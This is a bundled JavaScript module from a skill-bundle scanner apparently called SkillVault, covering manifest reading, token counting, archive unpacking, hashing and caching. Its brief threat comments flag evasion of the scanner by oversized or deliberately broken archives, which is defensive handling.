    if (!/^(?:\.{1,2}\/|[^/]+\/|[^/]+\.[a-z0-9]{1,8}$)/i.test(plain))
        return undefined;
    const parts = [];
    for (const part of plain.split('/')) {
        if (part === '..') {
            if (parts.pop() === undefined)
                return 'outside';
        }
        else if (part !== '.' && part !== '')
            parts.push(part);
    }
    const path = parts.join('/');
    return path === '' || files.has(path) ? undefined : 'missing';
}
function decoded(target) {
    try {
        return decodeURIComponent(target);
    }
    catch {
        return target;
    }
}
/** All files of a bundle and the folders that they lie in. */
function filesAndFolders(paths) {
    const all = new Set(paths);
    for (const path of paths) {
        for (let slash = path.lastIndexOf('/'); slash > 0; slash = path.lastIndexOf('/', slash - 1))
            all.add(path.slice(0, slash));
    }
    return all;
}

;// CONCATENATED MODULE: ./lib/skills/manifest/tokens.js
/**
 * SkillVault's deterministic count of a manifest's tokens: the text in NFC with every line end as LF, split on white space,
 * empty pieces not counted. Neither step changes how many pieces there are (no white space is composed, decomposed or made
 * by them), so the runs between white space are counted directly. It approximates no model's tokenizer; limits are set in
 * the same unit.
 */
function countTokens(text) {
    let count = 0;
    let between = true;
    for (let index = 0; index < text.length; index += 1) {
        const space = isSpace(text.charCodeAt(index));
        if (between && !space)
            count += 1;
        between = space;
    }
    return count;
}
/** White space as in ECMAScript's `\s`: WhiteSpace and LineTerminator. */
function isSpace(unit) {
    if (unit <= 0x20)
        return unit === 0x20 || (unit >= 9 && unit <= 13);
    if (unit < 0xa0)
        return false;
    return (unit === 0xa0 ||
        unit === 0x1680 ||
        (unit >= 0x2000 && unit <= 0x200a) ||
        unit === 0x2028 ||
        unit === 0x2029 ||
        unit === 0x202f ||
        unit === 0x205f ||
        unit === 0x3000 ||
        unit === 0xfeff);
}

;// CONCATENATED MODULE: ./lib/skills/manifest/read-manifest.js








const FIRST_LINE = { startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 };
const PREFERRED = ['SKILL.md', 'skill.md'];
/** The names in a bundle's root that are those of a manifest, the one that counts first. */
function manifestNames(paths) {
    const names = [...paths].filter((path) => (0,discovery/* isManifestName */.zU)(path));
    return names.sort((a, b) => rank(a) - rank(b) || (a < b ? -1 : 1));
}
function rank(name) {
    const index = PREFERRED.indexOf(name);
    return index < 0 ? PREFERRED.length : index;
}
/** Reads the manifest of a bundle. Its body counts even when its front matter is broken or absent. */
function readManifest(file) {
    const { path, size, sha256, bytes } = file;
    const strict = bytes === undefined ? undefined : (0,core_text/* decodeUtf8 */._6)(bytes);
    const text = strict ?? (bytes === undefined ? '' : new TextDecoder().decode(bytes));
    const identity = { path, size, sha256, tokens: countTokens(text), validUtf8: bytes === undefined || strict !== undefined };
    if (strict === undefined)
        return { ...identity, anchor: FIRST_LINE, findings: [] };
    const lines = strict.replace(/\r\n?/g, '\n').split('\n');
    const front = readFrontMatter(lines);
    const references = (bodyLine) => referenceFindings(path, lines, bodyLine, filesAndFolders(file.siblings));
    if (front.kind !== 'read') {
        const region = front.kind === 'absent' ? FIRST_LINE : front.region;
        const fault = front.kind === 'absent' ? 'is missing' : front.fault;
        const finding = (0,rule/* findingOf */.h)(front_matter/* frontMatter */.Z, { path, region, snippet: fault }, { fault });
        return { ...identity, anchor: FIRST_LINE, findings: [finding, ...references(1)] };
    }
    const name = front.fields.get('name');
    return {
        ...identity,
        ...(typeof name?.value === 'string' && name.value !== '' ? { name: name.value } : {}),
        anchor: name?.region ?? FIRST_LINE,
        findings: [
            ...fieldFindings(path, front.fields, { startLine: 1, startColumn: 1, endLine: 1, endColumn: 4 }),
            ...references(front.bodyLine),
        ],
    };
}


/***/ }),

/***/ 9866:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   iL: () => (/* binding */ readArchives),
/* harmony export */   uv: () => (/* binding */ archiveName)
/* harmony export */ });
/* unused harmony export readArchive */
/* harmony import */ var _io_zip_read_zip_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(7615);
/* harmony import */ var _io_memory_snapshot_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(2702);
/* harmony import */ var _discovery_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(6748);
/* harmony import */ var _read_folders_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(5370);




const INSIDE_ARCHIVE = { wanted: () => true, searchDependencies: false, repositoryTop: false };
/** Larger archives are not unpacked. */
const MAX_ARCHIVE_BYTES = 64 * 1024 * 1024;
/** Up to this size an archive that is not unpacked is searched for the name of a manifest. */
const MAX_SEARCHED_BYTES = 1024 * 1024 * 1024;
/** Reads the bundles in the archives of a tree, one archive after the other. */
async function readArchives(snapshot, archives, tools) {
    const readings = [];
    const skipped = [];
    for (const { path } of archives) {
        const content = snapshot.read(path, MAX_ARCHIVE_BYTES);
        if (content.kind === 'bytes')
            readings.push(...(await readArchive(content.bytes, path, tools)));
        else {
            skipped.push({ path, reason: content.reason });
            if (content.reason === 'too-large')
                readings.push(...(await readLargeArchive(snapshot, path, tools)));
        }
    }
    return { readings, skipped };
}
/** Threat: a bundle that is padded until it is too large to be judged. It is a bundle whose archive cannot be used. */
async function readLargeArchive(snapshot, path, tools) {
    const content = snapshot.read(path, MAX_SEARCHED_BYTES);
    if (content.kind === 'bytes' && !namesManifest(content.bytes, path))
        return [];
    const message = `is larger than ${String(MAX_ARCHIVE_BYTES)} bytes, so that it is not judged`;
    return bundlesOf((0,_io_memory_snapshot_js__WEBPACK_IMPORTED_MODULE_2__/* .memorySnapshot */ .i)(path, []), [{ kind: 'too-large', entry: '', message }], path, tools);
}
/**
 * Reads the bundles in an archive. One whose root holds a manifest is a bundle; so is a single folder in it that does, the
 * form in which skills are usually packed. An archive without a manifest that can be seen is no bundle (an empty answer),
 * unless it is broken and its bytes still name one.
 */
async function readArchive(bytes, path, tools) {
    const { snapshot, faults } = await (0,_io_zip_read_zip_js__WEBPACK_IMPORTED_MODULE_0__/* .readZip */ .u)(bytes, path);
    const empty = (0,_discovery_js__WEBPACK_IMPORTED_MODULE_3__/* .findFolderBundles */ .h3)(snapshot.entries(), INSIDE_ARCHIVE).length === 0;
    return empty && (faults.length === 0 || !namesManifest(bytes, path)) ? [] : bundlesOf(snapshot, faults, path, tools);
}
async function bundlesOf(snapshot, faults, path, tools) {
    const groups = (0,_discovery_js__WEBPACK_IMPORTED_MODULE_3__/* .findFolderBundles */ .h3)(snapshot.entries(), INSIDE_ARCHIVE);
    const [outermost = wholeArchive(snapshot), ...others] = groups;
    const readings = await (0,_read_folders_js__WEBPACK_IMPORTED_MODULE_1__/* .readFolders */ .iz)(snapshot, [outermost, ...others], tools);
    const strays = straysOf(snapshot, groups, path);
    return readings.map((reading) => {
        const first = reading.root === outermost.outermost.root;
        const root = reading.root === '' ? path : `${path}/${reading.root}`;
        return { ...reading, root, archive: path, ...(first ? { archiveFaults: faults, leftOut: strays } : {}) };
    });
}
/** Threat: an archive that other tools still unpack, broken just enough that its manifest is not seen here. */
function namesManifest(bytes, path) {
    return path.toLowerCase().endsWith('.skill') || holdsManifestName(bytes);
}
const MANIFEST_NAME_LENGTH = 8;
const PIECE_BYTES = 16 * 1024 * 1024;
/** Piece by piece, with the length of a name in common, since one text holds no more than half a gigabyte. */
function holdsManifestName(bytes) {
    for (let at = 0; at < bytes.byteLength; at += PIECE_BYTES) {
        const length = Math.min(PIECE_BYTES + MANIFEST_NAME_LENGTH, bytes.byteLength - at);
        if (/skill\.md/i.test(Buffer.from(bytes.buffer, bytes.byteOffset + at, length).toString('latin1')))
            return true;
    }
    return false;
}
function wholeArchive(snapshot) {
    return { outermost: { root: '', entries: snapshot.entries(), leftOut: [] }, nested: [] };
}
/** Files of the archive that lie in none of its bundles, such as the resource forks that macOS packs beside a folder. */
function straysOf(snapshot, groups, path) {
    const roots = groups.map((group) => group.outermost.root);
    if (roots.includes(''))
        return [];
    return snapshot
        .entries()
        .filter((entry) => !roots.some((root) => entry.path.startsWith(`${root}/`)))
        .map((entry) => `${path}/${entry.path}`);
}
/** The name of an archive without its ending, for a bundle that does not say its own. */
function archiveName(path) {
    return (0,_discovery_js__WEBPACK_IMPORTED_MODULE_3__/* .baseName */ .Fl)(path).replace(/\.(?:zip|skill)$/i, '');
}


/***/ }),

/***/ 5370:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  iz: () => (/* binding */ readFolders),
  UT: () => (/* binding */ totalSize)
});

// UNUSED EXPORTS: loadBatches

// EXTERNAL MODULE: ./lib/core/digest.js
var digest = __webpack_require__(3871);
// EXTERNAL MODULE: ./lib/io/snapshot.js
var io_snapshot = __webpack_require__(4554);
// EXTERNAL MODULE: ./lib/skills/bundle-hash.js
var bundle_hash = __webpack_require__(7829);
// EXTERNAL MODULE: ./lib/skills/manifest/read-manifest.js + 5 modules
var read_manifest = __webpack_require__(5689);
// EXTERNAL MODULE: ./lib/skills/reading/reading-cache.js
var reading_cache = __webpack_require__(1182);
;// CONCATENATED MODULE: ./lib/skills/reading/read-group.js





/** Hashes the bundles of a group and starts their analysis: each file is hashed once, each content analysed once. */
function readGroup(group, contents, tools) {
    const loaded = new Map();
    for (const entry of group.outermost.entries) {
        if ((0,io_snapshot/* isRegularFile */.Ze)(entry))
            loaded.set(entry.path, loadFile(entry, contents.get(entry.path)));
    }
    return [group.outermost, ...group.nested].map((bundle) => readBundle(bundle, loaded, tools));
}
function factsOf(bundle, hash, { analyser, cache }) {
    const executables = bundle.files.filter((file) => file.executable).map((file) => file.path);
    const key = (0,reading_cache/* factsKey */.nk)(hash, executables, bundle.others);
    const known = cache.ofHash(key);
    if (known !== undefined)
        return known;
    const facts = analyser.analyse(bundle);
    cache.keepHash(key, facts);
    return facts;
}
function loadFile(entry, content = { kind: 'unreadable', reason: 'missing' }) {
    const { path, size } = entry;
    const executable = entry.kind === 'executable';
    switch (content.kind) {
        case 'bytes':
            return { path, size: content.bytes.byteLength, sha256: (0,digest/* sha256Hex */.f)(content.bytes), executable, content };
        case 'hashed':
            return { path, size, sha256: content.sha256, executable, content: { kind: 'unreadable', reason: 'too-large' } };
        case 'unreadable':
            return { path, size, sha256: '', executable, content };
    }
}
function readBundle(bundle, loaded, tools) {
    const { root, entries, leftOut } = bundle;
    const strip = root === '' ? 0 : root.length + 1;
    const files = [];
    const others = [];
    for (const entry of entries) {
        const file = loaded.get(entry.path);
        if (file === undefined)
            others.push({ ...entry, path: entry.path.slice(strip) });
        else
            files.push(strip === 0 ? file : { ...file, path: file.path.slice(strip) });
    }
    const hash = (0,bundle_hash/* bundleSha256 */.K)(files);
    const manifests = (0,read_manifest/* manifestNames */.q)(files.map((file) => file.path));
    const reading = {
        root,
        leftOut,
        files: files.map(({ path, size, sha256, executable }) => ({ path, size, sha256, executable })),
        others,
        bundleSha256: hash,
        totalBytes: files.reduce((sum, file) => sum + file.size, 0),
        manifests,
        manifest: manifestOf(files, manifests[0]),
        unread: files.flatMap(unreadOf),
    };
    return { reading, facts: factsOf({ root, files, others }, hash, tools) };
}
function unreadOf(file) {
    return file.content.kind === 'bytes' ? [] : [{ path: file.path, reason: file.content.reason }];
}
function manifestOf(files, name) {
    const file = files.find((candidate) => candidate.path === name);
    if (file === undefined)
        return undefined;
    const { path, size, sha256, content } = file;
    return (0,read_manifest/* readManifest */.W)({
        path,
        size,
        sha256,
        bytes: content.kind === 'bytes' ? content.bytes : undefined,
        siblings: files.map((one) => one.path),
    });
}

;// CONCATENATED MODULE: ./lib/skills/reading/read-folders.js




/** Bytes that are held at a time; one git call reads about as much. A larger group of bundles is a batch of its own. */
const BATCH_BYTES = 16 * 1024 * 1024;
/** A group's bytes beyond this are hashed and not analysed: a memory bound, far above any real skill. */
const GROUP_BYTES = 512 * 1024 * 1024;
/** Files up to this size are hashed; larger ones count as unreadable. */
const MAX_HASHED_BYTES = 2 * 1024 * 1024 * 1024 - 1;
/** Reads the groups of a tree batch by batch; the bytes of a batch are let go before the next is read. */
function* loadBatches(snapshot, groups) {
    let batch = [];
    let bytes = 0;
    for (const group of groups) {
        const size = sizeOf(group);
        if (batch.length > 0 && bytes + size > BATCH_BYTES) {
            yield loadBatch(snapshot, batch);
            batch = [];
            bytes = 0;
        }
        batch.push(group);
        bytes += size;
    }
    if (batch.length > 0)
        yield loadBatch(snapshot, batch);
}
/**
 * Reads every bundle of the groups; what the cache knows by git's object ids is not even read. While one batch is analysed
 * the next is read, and no more than that is held.
 */
async function readFolders(snapshot, groups, tools) {
    const readings = [];
    const unknown = [];
    for (const group of groups) {
        const known = knownReadings(group, tools.cache);
        if (known === undefined)
            unknown.push(group);
        else
            readings.push(...known);
    }
    let previous = Promise.resolve([]);
    for (const { groups: batch, contents } of loadBatches(snapshot, unknown)) {
        const current = Promise.all(batch.map((group) => finishGroup(group, contents, tools))).then((read) => read.flat());
        // A failure is reported where it is awaited, below.
        current.catch(() => undefined);
        readings.push(...(await previous));
        previous = current;
    }
    readings.push(...(await previous));
    return readings.map((reading) => withUnlisted(reading, snapshot.skipped));
}
/** Threat: content that the tree could not even list (too deep, a name that is no UTF-8) and that is installed all the same. */
function withUnlisted(reading, skipped) {
    const prefix = reading.root === '' ? '' : `${reading.root}/`;
    const own = skipped.filter(({ path, reason }) => path.startsWith(prefix) && !LEFT_OUT_ON_PURPOSE.has(reason));
    if (own.length === 0)
        return reading;
    return { ...reading, unread: [...reading.unread, ...own.map((skip) => ({ ...skip, path: skip.path.slice(prefix.length) }))] };
}
const LEFT_OUT_ON_PURPOSE = new Set(['excluded', 'dependency-folder']);
async function finishGroup(group, contents, tools) {
    const pending = readGroup(group, contents, tools);
    const read = await Promise.all(pending.map(async ({ reading, facts }) => ({ ...reading, facts: await facts })));
    [group.outermost, ...group.nested].forEach((bundle, index) => {
        const reading = read[index];
        if (reading !== undefined)
            tools.cache.keepObjects((0,reading_cache/* objectsKey */.Wr)(bundle), reading);
    });
    return read;
}
/** The bytes of all files of the groups, as listed. */
function totalSize(groups) {
    return groups.reduce((sum, group) => sum + sizeOf(group), 0);
}
function knownReadings(group, cache) {
    const readings = [];
    for (const bundle of [group.outermost, ...group.nested]) {
        const known = cache.ofObjects((0,reading_cache/* objectsKey */.Wr)(bundle));
        if (known === undefined)
            return undefined;
        readings.push({ ...known, root: bundle.root, leftOut: bundle.leftOut });
    }
    return readings;
}
function sizeOf(group) {
    return group.outermost.entries.reduce((sum, entry) => sum + entry.size, 0);
}
function loadBatch(snapshot, groups) {
    const small = [];
    const large = [];
    let held = 0;
    for (const group of groups) {
        for (const entry of group.outermost.entries) {
            if (!(0,io_snapshot/* isRegularFile */.Ze)(entry))
                continue;
            held += entry.size;
            if (entry.size > io_snapshot/* MAX_FILE_BYTES */.gZ || held > GROUP_BYTES)
                large.push(entry);
            else
                small.push(entry.path);
        }
    }
    const contents = new Map(snapshot.readMany(small, io_snapshot/* MAX_FILE_BYTES */.gZ));
    for (const entry of large)
        contents.set(entry.path, hashOf(snapshot.read(entry.path, MAX_HASHED_BYTES)));
    return { groups, contents };
}
function hashOf(content) {
    return content.kind === 'bytes' ? { kind: 'hashed', sha256: (0,digest/* sha256Hex */.f)(content.bytes) } : content;
}


/***/ }),

/***/ 1182:
/***/ (function (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   FL: () => (/* binding */ ReadingCache),
/* harmony export */   Wr: () => (/* binding */ objectsKey),
/* harmony export */   nk: () => (/* binding */ factsKey)
/* harmony export */ });
/* harmony import */ var _core_digest_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3871);

/**
 * What is known of bundles by what they hold, so that equal ones (head and base, copies in one tree) are read and analysed
 * once. Two keys: git's object ids, known without reading, and the bundle's own hash.
 */
class ReadingCache {
    #byObjects = new Map();
    #byHash = new Map();
    /** The reading of a bundle whose every entry has the object id of a bundle that was read before. */
    ofObjects(key) {
        return key === undefined ? undefined : this.#byObjects.get(key);
    }
    keepObjects(key, reading) {
        if (key !== undefined)
            this.#byObjects.set(key, reading);
    }
    /** The facts of a key of {@link factsKey}, perhaps still in the making. */
    ofHash(key) {
        return this.#byHash.get(key);
    }
    keepHash(key, facts) {
        this.#byHash.set(key, facts);
    }
}
/** Names a bundle by its paths, modes and git's object ids; undefined where one is not known. */
function objectsKey(bundle) {
    const strip = bundle.root === '' ? 0 : bundle.root.length + 1;
    const parts = [];
    for (const entry of bundle.entries) {
        if (entry.oid === undefined)
            return undefined;
        parts.push(`${entry.path.slice(strip)}\0${entry.kind}\0${entry.oid}\n`);
    }
    return (0,_core_digest_js__WEBPACK_IMPORTED_MODULE_0__/* .sha256Hex */ .f)(parts.join(''));
}
/** Names all that an analysis may look at: the bytes by the bundle's hash, what the hash leaves out beside it. */
function factsKey(bundleHash, executables, others) {
    const rest = others.map((entry) => [entry.path, entry.kind, entry.target ?? '']);
    return `${bundleHash}\n${JSON.stringify([executables, rest])}`;
}


/***/ })

};
